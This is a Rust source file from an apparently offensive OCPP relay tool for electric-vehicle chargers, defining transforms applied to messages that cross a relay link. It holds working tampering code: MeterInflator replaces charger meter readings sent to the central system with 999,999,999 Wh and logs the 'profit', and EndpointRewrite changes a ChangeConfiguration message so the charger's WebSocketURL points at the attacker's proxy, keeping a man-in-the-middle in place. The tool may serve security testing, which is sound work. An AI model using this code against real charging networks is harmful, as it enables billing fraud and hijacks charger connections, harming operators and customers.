//! Relayed-message transforms
//!
//! A transform is a pure, synchronous function applied to every message
//! crossing a relay link before it is forwarded. It must return quickly;
//! a slow transform head-of-line blocks the whole link. Tampering is an
//! explicit capability here, not a side effect.

use serde_json::Value;
use thiserror::Error;
use tracing::info;

use voltprobe_ocpp::OcppMessage;

/// Which way a message is crossing the link
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Direction {
    DeviceToCentral,
    CentralToDevice,
}

/// A transform refused or failed; the relay forwards the original
#[derive(Debug, Error)]
pub enum TransformError {
    #[error("transform fault: {0}")]
    Fault(String),
}

/// Pluggable per-message rewrite
pub trait Transform: Send + Sync {
    fn apply(&self, msg: &OcppMessage, direction: Direction) -> Result<OcppMessage, TransformError>;
}

/// Forwards everything untouched
pub struct Identity;

impl Transform for Identity {
    fn apply(&self, msg: &OcppMessage, _direction: Direction) -> Result<OcppMessage, TransformError> {
        Ok(msg.clone())
    }
}

/// JSON pointer to the first sampled reading of a metering payload
const SAMPLED_VALUE_PTR: &str = "/meterValue/0/sampledValue/0/value";

/// Rewrites the first sampled value of every device→central metering call
/// to a fixed constant, leaving unique id, action, and everything else
/// untouched. The reverse direction passes through unmodified.
pub struct MeterInflator {
    pub inflated_wh: i64,
}

impl Default for MeterInflator {
    fn default() -> Self {
        Self {
            inflated_wh: 999_999_999,
        }
    }
}

impl Transform for MeterInflator {
    fn apply(&self, msg: &OcppMessage, direction: Direction) -> Result<OcppMessage, TransformError> {
        if direction != Direction::DeviceToCentral {
            return Ok(msg.clone());
        }
        let call = match msg {
            OcppMessage::Call(call)
                if call.action == "MeterValues" || call.action == "TransactionEvent" =>
            {
                call
            }
            _ => return Ok(msg.clone()),
        };

        let mut call = call.clone();
        let slot = call
            .payload
            .pointer_mut(SAMPLED_VALUE_PTR)
            .ok_or_else(|| TransformError::Fault("no sampled value to rewrite".into()))?;

        let original = slot.as_str().unwrap_or("0").to_string();
        *slot = Value::String(self.inflated_wh.to_string());

        let profit = self.inflated_wh - original.parse::<i64>().unwrap_or(0);
        info!(
            action = %call.action,
            original_wh = %original,
            inflated_wh = self.inflated_wh,
            profit_wh = profit,
            "inflated meter reading"
        );
        Ok(OcppMessage::Call(call))
    }
}

/// Redirects a device's future connection target: rewrites the value of a
/// central→device ChangeConfiguration for the WebSocketURL key to point at
/// the proxy instead of the real central system.
pub struct EndpointRewrite {
    pub proxy_url: String,
}

impl Transform for EndpointRewrite {
    fn apply(&self, msg: &OcppMessage, direction: Direction) -> Result<OcppMessage, TransformError> {
        if direction != Direction::CentralToDevice {
            return Ok(msg.clone());
        }
        let call = match msg {
            OcppMessage::Call(call)
                if call.action == "ChangeConfiguration"
                    && call.payload.get("key").and_then(Value::as_str) == Some("WebSocketURL") =>
            {
                call
            }
            _ => return Ok(msg.clone()),
        };

        let mut call = call.clone();
        call.payload["value"] = Value::String(self.proxy_url.clone());
        info!(proxy_url = %self.proxy_url, "redirected WebSocketURL");
        Ok(OcppMessage::Call(call))
    }
}
